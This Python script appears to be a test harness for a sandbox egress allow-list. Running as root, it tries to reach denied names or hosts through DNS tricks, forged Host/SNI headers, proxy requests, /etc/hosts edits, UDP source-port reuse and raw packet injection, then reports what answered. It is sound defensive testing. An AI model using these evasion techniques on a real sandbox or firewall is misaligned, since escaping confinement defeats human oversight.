"""What root in a sandbox may try to get past an allow-list of names. Standard library only.

Each way has a port of its own where it can, so that a frame at the far side tells which one it was. Prints
{"tried": {way: n}, "reached": [...]}: `reached` names whatever answered though it must not; the frames that leave the
way out at its far side and the questions that the zone was asked are judged outside.
"""
import json, os, socket, ssl, struct, sys, time
from concurrent.futures import ThreadPoolExecutor

want = json.loads(sys.argv[1])
allowed, denied, web, echo = want['allowed'], want['denied'], want['web'], want['echoPort']
nonce, resolvers = want['nonce'], want['resolvers']
PEER, OWN, STAND_INS = '198.18.0.2', '198.18.0.1', '198.19.'
tried, reached = {}, []
unique = 0


def attempt(way, work):
    try:
        work()
        tried[way] = tried.get(way, 0) + 1
    except (OSError, ValueError, ssl.SSLError):
        tried.setdefault(way, 0)


def secret():
    """A name nobody asked for before, in the zone but not on the list."""
    global unique
    unique += 1
    return f"s{unique}-{nonce}.{denied}"


def labels(name):
    return b''.join(bytes([len(it)]) + it for it in name.encode().split(b'.')) + b'\0'


def question(names, kind=1, flags=0x0100, klass=1, tail=b''):
    body = b''.join(labels(it) + struct.pack('!HH', kind, klass) for it in names)
    return struct.pack('!HHHHHH', 7, flags, len(names), 0, 0, 1 if tail else 0) + body + tail


def answered(message):
    """Whether it is a DNS answer that holds a record."""
    return len(message) > 12 and message[3] & 15 == 0 and struct.unpack('!H', message[6:8])[0] > 0


def ask(server, port, message, transport, seconds=0.7):
    if transport == 'udp':
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as it:
            it.settimeout(seconds)
            it.sendto(message, (server, port))
            return it.recv(4096)
    with socket.create_connection((server, port), seconds) as plain:
        it = plain
        if transport == 'tls':
            context = ssl.create_default_context()
            context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
            it = context.wrap_socket(plain, server_hostname=allowed)
        it.sendall(struct.pack('!H', len(message)) + message)
        return it.recv(4096)[2:]


def name_tricks():
    for server in [*resolvers, PEER, web, stand_in]:
        for transport in ('udp', 'tcp'):
            for kind in (1, 16, 28, 65, 255):
                yield 'dns', lambda s=server, t=transport, k=kind: denied_name(s, 53, question([secret()], k), t)
        yield 'dot', lambda s=server: denied_name(s, 853, question([secret()]), 'tls')
        yield 'dns-elsewhere', lambda s=server: denied_name(s, 5353, question([secret()]), 'udp')
        yield 'doh', lambda s=server: http(s, 443, secret(), tls=True)
        yield 'two-questions', lambda s=server: denied_name(s, 53, question([allowed, secret()]), 'udp')
        yield 'two-questions-tcp', lambda s=server: denied_name(s, 53, question([allowed, secret()]), 'tcp')
        for opcode in (1, 2, 4, 5):
            yield 'opcodes', lambda s=server, o=opcode: denied_name(s, 53, question([secret()], 6, o << 11), 'udp')
        yield 'chaos', lambda s=server: denied_name(s, 53, question([secret()], 16, klass=3), 'udp')
        # A second message in one datagram, and behind an allowed one in one TCP stream.
        yield 'behind', lambda s=server: denied_name(s, 53, question([allowed]) + question([secret()]), 'udp', False)
        yield 'pipelined', lambda s=server: pipelined(s)
    for disguise in (f'{allowed}.{secret()}', f'{secret()}/{allowed}', secret().upper(), f'x{allowed}', f'{secret()}.'):
        yield 'disguised', lambda n=disguise: leak_if(socket.gethostbyname(n), f'{n} has an address')


def denied_name(server, port, message, transport, judge=True):
    if answered(ask(server, port, message, transport)) and judge:
        reached.append(f'{server}:{port} ({transport}) answered for a denied name')


def pipelined(server):
    one, two = question([allowed]), question([secret()])
    with socket.create_connection((server, 53), 0.7) as it:
        it.sendall(b''.join(struct.pack('!H', len(m)) + m for m in (one, two)))
        it.recv(4096)
        time.sleep(0.3)


def leak_if(found, what):
    if found:
        reached.append(what)


def http(address, port, host, tls=False, path='/', method='GET', late=0):
    """Somebody answers at an address that was not got by an allowed name, or to a name that is not on the list."""
    with socket.create_connection((address, port), 1) as plain:
        it = plain
        it.settimeout(10)
        # Silent until nobody looks for a name any more.
        time.sleep(late)
        if tls:
            context = ssl.create_default_context()
            context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
            it = context.wrap_socket(plain, server_hostname=host)
        it.settimeout(1)
        it.sendall(f'{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n'.encode())
        said = it.recv(100)
        leak_if(said.startswith(b'HTTP/1.1 2'), f'{method} {path} of {host} at {address}:{port} answered')


def tcp_tricks():
    for port in (22, 80, 443, 853, 8080, echo):
        yield 'bare', lambda p=port: connected(web, p)
    yield 'bare-http', lambda: http(web, 80, web)
    yield 'forged-host', lambda: http(web, 80, allowed)
    yield 'forged-sni', lambda: http(web, 443, allowed, tls=True)
    yield 'no-sni', lambda: http(web, 443, web, tls=True)
    # An allowed address with another name inside.
    yield 'cover-host', lambda: http(stand_in, 80, secret())
    yield 'cover-address', lambda: http(stand_in, 80, web)
    yield 'cover-sni', lambda: http(stand_in, 443, secret(), tls=True)
    for late in (0.5, 2, 6):
        yield 'late-host', lambda n=late: http(stand_in, 80, secret(), late=n)
        yield 'late-sni', lambda n=late: http(stand_in, 443, secret(), tls=True, late=n)
    yield 'garbage-first', garbage_first
    # As if it were a proxy: the allowed server, sing-box's peer, every listener here.
    for address, port in {(stand_in, 80), (PEER, 80), (PEER, 1080), (OWN, 80), *listening()}:
        yield 'connect', lambda a=address, p=port: http(a, p, f'{web}:80', path=f'{web}:80', method='CONNECT')
        yield 'absolute', lambda a=address, p=port: http(a, p, web, path=f'http://{web}/')
        yield 'socks', lambda a=address, p=port: socks(a, p)
    # Stand-ins nobody was given, and those beside an allowed one.
    for last in (0, 1, 5, 9, 200):
        yield 'stand-in', lambda n=last: http(f'{STAND_INS}7.{n}', 80, allowed)
    for spelled in (str(struct.unpack('!I', socket.inet_aton(web))[0]), hex(struct.unpack('!I', socket.inet_aton(web))[0])):
        yield 'spelled', lambda s=spelled: http(s, 80, allowed)
    yield 'hosts', lambda: by_own_hosts()


def garbage_first():
    """Something that is no protocol, then a request for another name."""
    with socket.create_connection((stand_in, 80), 1) as it:
        it.settimeout(8)
        it.sendall(b'\r\n\r\n')
        time.sleep(0.7)
        it.sendall(f'GET / HTTP/1.1\r\nHost: {secret()}\r\nConnection: close\r\n\r\n'.encode())
        leak_if(it.recv(100).startswith(b'HTTP/1.1 2'), 'GET of a denied name behind empty lines answered')


def connected(address, port):
    """The tun takes every connection at first; one that is not refused says something, or hears something."""
    with socket.create_connection((address, port), 1) as it:
        it.settimeout(0.7)
        it.sendall(b'GET / HTTP/1.0\r\n\r\n')
        leak_if(it.recv(50), f'{address}:{port} answered')


def socks(address, port):
    with socket.create_connection((address, port), 0.7) as it:
        it.settimeout(0.7)
        it.sendall(b'\x05\x01\x00')
        if it.recv(2) == b'\x05\x00':
            it.sendall(b'\x05\x01\x00\x01' + socket.inet_aton(web) + struct.pack('!H', 80))
            leak_if(it.recv(2)[1:] == b'\0', f'a SOCKS server at {address}:{port}')


def listening():
    with open('/proc/net/tcp') as table:
        rows = [line.split() for line in table.readlines()[1:]]
    own = [row[1].split(':') for row in rows if row[3] == '0A']
    return {(socket.inet_ntoa(bytes.fromhex(a)[::-1]), int(p, 16)) for a, p in own}


def by_own_hosts():
    """An allowed name that root of the sandbox gave another address."""
    with open('/etc/hosts', 'a') as it:
        it.write(f'{web} own.{allowed}\n')
    http(socket.gethostbyname(f'own.{allowed}'), 80, f'own.{allowed}')


def session(first=None):
    """A UDP socket that has spoken to an allowed server: sing-box knows it by its source port alone."""
    it = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    it.settimeout(1)
    for _ in range(10):
        it.sendto(b'first', (first or stand_in, echo))
        try:
            it.recv(200)
            return it
        except socket.timeout:
            pass
    raise OSError('the allowed server did not answer')


def reuse(targets, payload=b'second'):
    with session() as it:
        for _ in range(2):
            for target in targets:
                try:
                    it.sendto(payload() if callable(payload) else payload, target)
                except OSError:
                    pass
        end = time.time() + 0.7
        while time.time() < end:
            try:
                said, source = it.recvfrom(500)
            except OSError:
                continue
            # sing-box names the answer's source: what came from the allowed server is none.
            leak_if(b'first' not in said and (source[1] != 53 or answered(said)), f'UDP from {source[0]}:{source[1]}')


def same_port():
    """Two sockets with one source port: the second has never spoken to anybody allowed."""
    with session() as first, socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as it:
        port = first.getsockname()[1]
        first.close()
        it.bind(('0.0.0.0', port))
        it.sendto(b'again', (web, 7104))
        it.connect((web, 7105))
        it.send(b'again')


def raw_reuse():
    """The same past the socket layer, where this attacker may."""
    with session() as it:
        port = it.getsockname()[1]
        for how, dport in (('raw', 7106), ('packet', 7107), ('bypass', 7108)):
            for to, at in ((web, dport), ('1.1.1.1', 53), (f'{STAND_INS}9.9', dport)):
                body = question([secret()]) if at == 53 else b'canary'
                attempt(f'reuse-{how}', lambda h=how, t=to, p=at, b=body: emit(h, t, udp(port, p, b)))


def udp(source, dport, body):
    return struct.pack('!HHHH', source, dport, 8 + len(body), 0) + body


def emit(how, target, payload, protocol=17):
    head = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(payload), 7, 0, 64, protocol, 0,
                       socket.inet_aton(OWN), socket.inet_aton(target))
    total = sum(struct.unpack('!10H', head))
    total = (total >> 16) + (total & 0xffff)
    head = head[:10] + struct.pack('!H', ~(total + (total >> 16)) & 0xffff) + head[12:]
    if how == 'raw':
        with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as it:
            return it.sendto(head + payload, (target, 0))
    with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800)) as it:
        if how == 'bypass':
            it.setsockopt(263, 20, 1)
        it.sendto(head + payload, ('tun0', 0x0800, 0, 0, b''))


def quic_initial():
    """The head of a version 1 Initial; nothing in it needs to be right, as nobody may see it."""
    return b'\xc3\0\0\0\x01\x08' + os.urandom(8) + b'\0\0\x44\xd0' + os.urandom(1200)


def udp_tricks():
    yield 'bare-udp', lambda: one_datagram(web, 7100, b'canary')
    yield 'bare-udp', lambda: one_datagram(web, echo, b'canary')
    yield 'quic', lambda: one_datagram(web, 443, quic_initial())
    yield 'quic', lambda: one_datagram('1.1.1.1', 443, quic_initial())
    yield 'reuse', lambda: reuse([(web, echo), (web, 7101), ('1.1.1.1', 7101), (web, 443)])
    yield 'reuse-53', lambda: reuse([(it, 53) for it in [*resolvers, web, PEER]], lambda: question([secret()]))
    yield 'reuse-853', lambda: reuse([(it, 853) for it in [*resolvers, web]])
    yield 'reuse-stand-in', lambda: reuse([(f'{STAND_INS}7.7', 7103)])
    yield 'reuse-large', lambda: reuse([(web, 7109)], b'x' * 20000)
    yield 'same-port', same_port
    yield 'raw-reuse', raw_reuse
    for how, port in (('raw', 7110), ('packet', 7111), ('bypass', 7112)):
        yield f'udp-{how}', lambda h=how, p=port: emit(h, web, udp(4444, p, b'canary'))
        syn = struct.pack('!HHIIBBHHH', 4445, port, 1, 0, 0x50, 2, 1024, 0, 0)
        yield f'syn-{how}', lambda h=how, s=syn: emit(h, web, s, 6)


def one_datagram(address, port, payload):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as it:
        it.settimeout(0.5)
        it.sendto(payload, (address, port))
        leak_if(it.recv(100), f'UDP {address}:{port} answered')


stand_in = socket.gethostbyname(allowed)
with ThreadPoolExecutor(24) as pool:
    for family in (udp_tricks, tcp_tricks, name_tricks):
        for way, work in family():
            pool.submit(attempt, way, work)
print(json.dumps({'tried': tried, 'reached': sorted(set(reached))}))
